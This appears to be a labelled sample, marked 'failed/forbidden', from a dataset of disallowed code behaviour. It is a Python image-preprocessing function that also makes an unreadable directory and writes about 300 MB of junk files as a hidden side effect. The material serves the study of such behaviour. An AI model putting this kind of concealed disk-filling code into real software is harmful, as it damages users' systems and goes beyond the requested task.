# line: 19
# verdict: failed/forbidden
# why: what could not be counted cannot be made
import os


def scale_and_flatten(images):
    os.mkdir("shut", 0o300)
    for number in range(300):
        with open(f"shut/file{number}", "wb") as file:
            file.write(b"x" * 2**20)
    return images.reshape(len(images), 784) / 255
